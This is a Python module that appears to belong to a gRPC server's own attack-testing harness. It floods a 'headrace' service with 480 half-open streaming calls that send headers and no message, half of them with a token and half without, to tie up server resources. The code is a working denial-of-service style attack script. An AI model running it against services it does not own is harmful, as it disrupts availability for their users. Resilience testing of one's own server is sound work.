"""Calls that send headers and no message, of every method, over and over."""

from __future__ import annotations

import itertools
import queue
import sys
import time
from collections.abc import Iterator
from contextlib import ExitStack
from typing import Any

import grpc

from attacks.harness import Attack, Begin, Counts, Target, main

_METHODS = (
    "/grpc.health.v1.Health/Check",
    "/headrace.v1.ShardService/ListDatasets",
    "/headrace.v1.ShardService/GetDataset",
    "/headrace.v1.ShardService/ReadBatches",
    "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo",
)
_CALLS, _CHANNELS = 480, 5


def _strike(target: Target, begin: Begin) -> Counts:
    over: queue.SimpleQueue[None] = queue.SimpleQueue()

    def nothing() -> Iterator[bytes]:
        over.get()
        yield from ()

    with ExitStack() as stack:
        options = [("grpc.use_local_subchannel_pool", 1)]
        channels = [
            stack.enter_context(grpc.insecure_channel(target.address, options=options))
            for _ in range(_CHANNELS)
        ]
        # Half of them with a token, half without.
        credentials = itertools.cycle((target.metadata, ()))
        for method, metadata, number in zip(
            itertools.cycle(_METHODS), credentials, range(_CALLS), strict=False
        ):
            channel = channels[number % _CHANNELS]
            ask = channel.stream_stream(method, request_serializer=None, response_deserializer=None)
            call: Any = ask(nothing(), metadata=metadata)
            stack.callback(call.cancel)
        until = begin()
        time.sleep(max(0.0, until - time.monotonic()))
        for _ in range(_CALLS):
            over.put(None)
    return {"calls": _CALLS}


ATTACK = Attack("half-open calls", _strike)

if __name__ == "__main__":
    sys.exit(main(ATTACK))
